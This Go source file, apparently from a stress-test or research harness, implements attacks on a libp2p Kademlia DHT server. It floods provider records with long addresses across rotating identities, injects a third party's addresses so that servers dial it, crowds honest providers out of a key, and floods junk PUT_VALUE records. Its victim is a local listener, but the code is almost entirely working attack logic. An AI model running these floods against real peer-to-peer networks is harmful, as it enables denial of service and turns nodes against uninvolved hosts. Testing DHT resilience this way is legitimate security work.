package main

import (
	"context"
	"crypto/rand"
	"fmt"
	"net"
	"strings"
	"sync"
	"time"

	kadpb "github.com/libp2p/go-libp2p-kad-dht/pb"
	recpb "github.com/libp2p/go-libp2p-record/pb"
	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/peer"
	ma "github.com/multiformats/go-multiaddr"
)

const (
	recordsAPeer     = 1000
	recordsAStream   = 40 // with 16 long addresses each they fit the first window
	addressesARecord = 16
	valuesAStream    = 20
)

// longAddresses are as many and as long as a server may keep for a peer.
func longAddresses(salt int) (addrs [][]byte) {
	for i := range addressesARecord {
		name := fmt.Sprintf("%s%d-%d.example", strings.Repeat("a.", 100), salt, i)
		addrs = append(addrs, ma.StringCast(fmt.Sprintf("/dns4/%s/tcp/%d", name, 1000+i)).Bytes())
	}
	return addrs
}

func (a *attacker) add(id peer.ID, key []byte, addrs [][]byte) []byte {
	record := &kadpb.Message_Peer{Id: []byte(id), Addrs: addrs}
	return kadRequest(&kadpb.Message{Type: kadpb.Message_ADD_PROVIDER, Key: key, ProviderPeers: []*kadpb.Message_Peer{record}})
}

func randomKey() []byte {
	key := make([]byte, 34)
	rand.Read(key)
	key[0], key[1] = 0x12, 0x20
	return key
}

// spamProviders fills the book: as many keys as one identity may have, then the next identity.
func spamProviders(a *attacker) error {
	a.repeat(floodersAtOnce, func() error {
		s, err := a.session()
		if err != nil {
			return err
		}
		defer s.end()
		s.drain()
		a.count("identities", 1)
		addrs := longAddresses(int(a.next.Load()))
		for sent := 0; sent < recordsAPeer && !a.over(); sent += recordsAStream {
			content := proposal(string(kadID))
			for range recordsAStream {
				content = append(content, a.add(s.id, randomKey(), addrs)...)
			}
			if s.write(s.stream(content, flagFIN)) != nil {
				a.count("cut off", 1)
				return nil
			}
			a.count("records", recordsAStream)
		}
		return nil
	})
	return nil
}

// nameForeigners names a third party's addresses in records and identify messages, and counts who dials it.
func nameForeigners(a *attacker) error {
	victim, err := net.Listen("tcp4", "127.250.0.1:0")
	if err != nil {
		return err
	}
	defer victim.Close()
	go func() {
		for {
			conn, err := victim.Accept()
			if err != nil {
				return
			}
			a.count("dials at the victim", 1)
			conn.Close()
		}
	}()
	port := victim.Addr().(*net.TCPAddr).Port
	target := ma.StringCast(fmt.Sprintf("/ip4/127.250.0.1/tcp/%d", port))
	addrs := [][]byte{target.Bytes(), ma.StringCast(fmt.Sprintf("/ip4/127.250.0.1/tcp/%d", port+1)).Bytes(), a.serverAddr.Bytes()}
	return a.providing(func(c *client) { c.listen = target }, addrs, randomKey)
}

// crowdOut has as many identities as it can provide the key of the honest clients, and keeps -n of them connected.
func crowdOut(a *attacker) error {
	return a.providing(func(*client) {}, nil, func() []byte { return a.key })
}

func (a *attacker) providing(change func(*client), addrs [][]byte, key func() []byte) error {
	var settled sync.Once
	return a.holdOpen(func(s *rawSession) error {
		change(s.client)
		own := addrs
		if own == nil {
			own = [][]byte{s.listen.Bytes()}
		}
		message, err := s.identifyMessage()
		if err != nil {
			return err
		}
		content := append(proposal(string(kadID)), a.add(s.id, key(), own)...)
		frames := s.stream(content, flagFIN)
		frames = append(frames, s.stream(append(proposal(string(pushID)), delimited(message)...), flagFIN)...)
		if err := s.write(frames); err != nil {
			return err
		}
		if a.count("records", 1) >= int64(a.peers) {
			// for whoever waits to come after it
			settled.Do(func() { fmt.Println(`{"settled":true}`) })
		}
		return nil
	}, true)
}

// putJunk puts values: keys of peers that do not exist, which are valid, names that are not, and long nonsense.
func putJunk(a *attacker) error {
	a.flooding(floodersAtOnce, true, func(s *rawSession) ([]byte, string, int) {
		content := proposal(string(kadID))
		for i := range valuesAStream {
			content = append(content, junkValue(i)...)
		}
		return s.stream(content, flagFIN), "values", valuesAStream
	})
	return nil
}

func junkValue(i int) []byte {
	key, value := []byte("/pk/"), make([]byte, 32)
	rand.Read(value)
	switch i % 4 {
	case 0, 1:
		public, err := crypto.UnmarshalEd25519PublicKey(value)
		if err != nil {
			panic(err) // 32 bytes are a key
		}
		id, _ := peer.IDFromPublicKey(public)
		value, _ = crypto.MarshalPublicKey(public)
		key = append(key, id...)
	case 2:
		key = append([]byte("/ipns/"), randomKey()...)
		value = append(value, make([]byte, 9<<10)...)
	default:
		key = append(key, randomKey()...)
		value = append(value, make([]byte, 11<<10)...)
	}
	record := &recpb.Record{Key: key, Value: value}
	return kadRequest(&kadpb.Message{Type: kadpb.Message_PUT_VALUE, Key: key, Record: record})
}

// context ends with the attack.
func (a *attacker) context() context.Context {
	ctx, cancel := context.WithDeadline(context.Background(), a.until.Add(time.Second))
	context.AfterFunc(ctx, cancel)
	return ctx
}
